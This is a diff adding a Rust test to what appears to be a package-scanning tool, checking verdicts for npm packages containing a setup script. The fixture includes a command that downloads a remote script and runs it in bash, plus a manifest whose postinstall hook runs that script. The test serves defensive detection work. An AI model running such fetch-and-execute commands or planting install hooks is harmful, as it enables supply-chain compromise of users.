@@ -141,3 +141,21 @@ fn an_attack_over_several_files_is_followed_whatever_lies_beside_it() {
     // In a program of very many files things of many purposes come together: people decide, and it is told.
     assert_eq!(verdict_of("lib/b", 60), "review");
 }
+
+#[test]
+fn nobody_runs_a_script_of_a_pipeline_by_installing_what_was_published() {
+    let setup = "#!/bin/bash\n/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/inert-other/tool/master/setup.sh)\"\n";
+    // In a package of hardly any code less is needed.
+    let rest = "exports.one = (a) => a + 1;\n".repeat(1000);
+    let verdict_of = |manifest: &str, place: &str, script: &str| {
+        let path = format!("package/{place}");
+        let requires = format!("{rest}require('./{place}');\n");
+        let index = if place.ends_with(".js") { requires.as_str() } else { rest.as_str() };
+        verdict(&[("package/package.json", manifest), ("package/index.js", index), (path.as_str(), script)])
+    };
+    assert_eq!(verdict_of(MANIFEST, ".github/actions/compare/setup.sh", setup), "pass");
+    assert_eq!(verdict_of(MANIFEST, "tools/setup.sh", setup), "review");
+    let installs = r#"{"name":"inert","version":"1.0.0","scripts":{"postinstall":"bash .github/setup.sh"}}"#;
+    assert_eq!(verdict_of(installs, ".github/setup.sh", setup), "block");
+    assert_eq!(verdict_of(MANIFEST, ".github/x.js", THIEF), "block");
+}
